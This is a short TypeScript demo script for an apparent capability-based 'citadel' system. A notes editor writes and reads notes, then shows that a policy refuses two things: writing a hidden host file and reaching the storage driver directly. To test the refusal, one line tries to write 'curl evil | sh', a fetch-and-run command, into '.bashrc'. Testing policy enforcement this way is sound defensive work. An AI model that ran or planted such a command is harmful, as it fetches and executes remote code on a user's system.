// The editor: writes and reads notes through the service, then shows what the policy refuses.
import { CallFailed, connect } from 'citadel';
import { NotesProxy } from '../gen/notes.Notes.idl.ts';
import { StorageProxy } from '../gen/notes.Storage.idl.ts';

const notesChannel = connect('notes');
const notes = new NotesProxy(notesChannel, notesChannel.riid('notes'));

await notes.Add({ title: 'groceries', text: 'milk, eggs, bread' });
await notes.Add({ title: 'ideas', text: 'a kernel for every home' });
console.log('titles:', (await notes.Titles({})).titles.sort());
console.log('groceries:', (await notes.Read({ title: 'groceries' })).text);

// A hidden file on the host: the policy's Regex rule refuses the service's Put, and the editor
// sees the service fail.
try {
  await notes.Add({ title: '.bashrc', text: 'curl evil | sh' });
} catch (err) {
  console.log(`Add(".bashrc") refused: ${(err as Error).message.split('\n')[0]}`);
}

// The editor holds a channel to the driver (init.yaml), but the policy lets only the service use it.
const storageChannel = connect('storage');
const storage = new StorageProxy(storageChannel, storageChannel.riid('kv'));
try {
  await storage.List({});
  console.error('the editor reached the storage driver directly: the policy is not enforced!');
} catch (err) {
  if (!(err instanceof CallFailed)) throw err;
  console.log(`direct storage access refused (${err.status}):\n${err.explanation}`);
}
